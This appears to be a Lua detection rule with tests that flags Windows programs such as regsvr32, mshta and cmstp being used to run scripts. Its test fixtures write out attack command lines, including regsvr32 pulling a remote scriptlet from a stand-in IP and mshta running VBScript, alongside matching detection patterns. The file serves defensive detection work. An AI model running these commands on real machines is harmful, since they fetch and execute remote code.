local scriptlet = sample {
  ["event.code"] = "1", ["host.name"] = "ws-05", ["user.name"] = [[ACME\ana]],
  ["process.executable"] = [[C:\windows\system32\regsvr32.exe]],
  ["process.command_line"] = "regsvr32.exe /s /n /u /i:http://203.0.113.9:8444/launcher.sct scrobj.dll",
}

return rule {
  id       = "windows.script_proxy",
  title    = "A program of Windows runs a script for somebody else",
  version  = 1,
  severity = "high",
  type     = "device_compromise",
  mitre    = { "T1218.001", "T1218.003", "T1218.005", "T1218.010" },
  match    = {
    any {
      {
        ["process.executable|endswith"] = [[\regsvr32.exe]],
        ["process.command_line|contains"] = { "scrobj", "/i:http", "-i:http" },
      },
      {
        ["process.executable|endswith"] = [[\mshta.exe]],
        ["process.command_line|contains"] = { "vbscript:", "javascript:", "http://", "https://", ".hta" },
      },
      {
        ["process.executable|endswith"] = [[\cmstp.exe]],
        ["process.command_line|contains|all"] = { "/s", ".inf" },
      },
      {
        ["process.executable|endswith"] = [[\hh.exe]],
        ["process.command_line|contains"] = { [[\ProgramData\]], [[\Users\]], [[\Temp\]], "http://", "https://" },
      },
      {
        ["process.executable|endswith"] = [[\rundll32.exe]],
        ["process.command_line|contains"] = { "javascript:", "vbscript:", "RunHTMLApplication" },
      },
      {
        ["process.executable|endswith"] = [[\wuauclt.exe]],
        ["process.command_line|contains|all"] = { "UpdateDeploymentProvider", "RunHandlerComServer", ".dll" },
      },
    },
  },
  dedup    = { by = { "host.name", "process.executable" }, window = "4h" },
  context  = {
    "host.name", "user.name", "process.executable", "process.command_line", "process.parent.executable",
    "process.parent.command_line",
  },

  title_of = function(event)
    return ("%s runs a script on %s"):format(
      (event["process.executable"] or "?"):match("[^\\]+$"), event["host.name"] or "?")
  end,

  false_positives = { "Old help files and HTML applications of your own that lie in a user's folder" },
  runbook  = "Fetch the script that was named, from a safe place. Look at the child processes and their connections.",

  tests = {
    { "regsvr32 and a scriptlet from the network", events = at({ 0 }, scriptlet),
      expect = { threats = 1, severity = "high", title = "regsvr32.exe runs a script on ws-05" } },
    { "mshta with VBScript in its argument",
      events = at({ 0 }, scriptlet:with {
        ["process.executable"] = [[C:\Windows\System32\mshta.exe]],
        ["process.command_line"] = [[mshta vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""calc"":close")]],
      }),
      expect = { threats = 1 } },
    { "cmstp with a profile of the attacker",
      events = at({ 0 }, scriptlet:with {
        ["process.executable"] = [[C:\Windows\System32\cmstp.exe]],
        ["process.command_line"] = [["C:\windows\system32\cmstp.exe" /s C:\ProgramData\x.inf /au]],
      }),
      expect = { threats = 1 } },
    { "wuauclt with a library",
      events = at({ 0 }, scriptlet:with {
        ["process.executable"] = [[C:\Windows\System32\wuauclt.exe]],
        ["process.command_line"] = [[wuauclt.exe /UpdateDeploymentProvider C:\ProgramData\x.dll /RunHandlerComServer]],
      }),
      expect = { threats = 1 } },
    { "registering a library does not",
      events = at({ 0 }, scriptlet:with { ["process.command_line"] = [[regsvr32 /s C:\Windows\vbscript.dll]] }),
      expect = { threats = 0 } },
    { "help of an installed program does not",
      events = at({ 0 }, scriptlet:with {
        ["process.executable"] = [[C:\Windows\hh.exe]],
        ["process.command_line"] = [[hh.exe C:\Program Files\Acme\manual.chm]],
      }),
      expect = { threats = 0 } },
  },
}
